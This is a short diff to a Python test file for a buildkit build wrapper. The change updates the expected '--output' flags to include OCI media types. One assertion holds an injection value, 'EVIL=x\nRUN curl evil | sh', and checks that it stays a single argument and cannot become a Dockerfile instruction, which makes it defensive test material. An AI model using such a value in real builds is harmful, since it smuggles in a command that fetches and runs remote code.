@@ -27,7 +27,7 @@ def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
     assert "--build-arg" in argv and "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv
     assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
     assert argv[argv.index("--build-context") + 1] == "wheels=/w"
-    assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true"
+    assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true,oci-mediatypes=true"
     plain = buildkit.BuildRequest(dockerfile="D", context=".", platform="linux/amd64").argv()
     # gzip is forced too: a layer whose only blob is zstd (built for a zstd target) is compressed again
     assert plain[plain.index("--output") + 1] == "type=docker,compression=gzip,force-compression=true"
